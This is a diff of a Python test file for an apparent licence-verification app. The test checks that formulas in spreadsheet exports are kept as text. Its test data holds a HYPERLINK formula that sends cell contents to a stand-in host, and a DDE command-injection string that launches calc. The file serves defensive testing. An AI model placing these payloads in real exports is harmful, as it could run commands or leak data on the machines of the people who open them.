@@ -17,6 +17,7 @@ from scraper_helpers import ROOT, cli, query
 from scrapers import importer, kz_kgd, ph_dmw
 from verifier.records import statuses, template
 from scrapers.http import Fetcher
+from tests.conftest import ENGINES, new_app_db
 
 NOT_IN_FORCE = {  # every usual word for a licence that is not in force, as registries write them
     "en": ["Inactive", "INACTIVE", "Suspended", "Expired", "Revoked", "Withdrawn", "Annulled", "Cancelled",
@@ -146,10 +147,11 @@ def test_changing_the_kind_of_an_imported_list_needs_replace(tmp_path):
 FORMULA_NAME = '=HYPERLINK("http://x"&B2,"Open")'
 
 
-def test_an_exported_formula_is_text_and_imports_back(tmp_path, monkeypatch):
+@pytest.mark.parametrize("engine", ENGINES)
+def test_an_exported_formula_is_text_and_imports_back(tmp_path, monkeypatch, request, engine):
     from verifier import appdb
     from verifier.appdb import ngo
-    monkeypatch.setenv("VERIFIER_APP_DB", str(tmp_path / "app.db"))
+    monkeypatch.setenv("VERIFIER_APP_DB", str(new_app_db(engine, request, tmp_path)))
     assert ngo.EXPORT_COLUMNS is importer.COLUMNS
     appdb.create_staff("alice", "correct horse battery", "test")
     for name, phone in ((FORMULA_NAME, "+7 701 555 01 99"), ("@SUM(1+1)*cmd|' /C calc'!A0", "-1")):
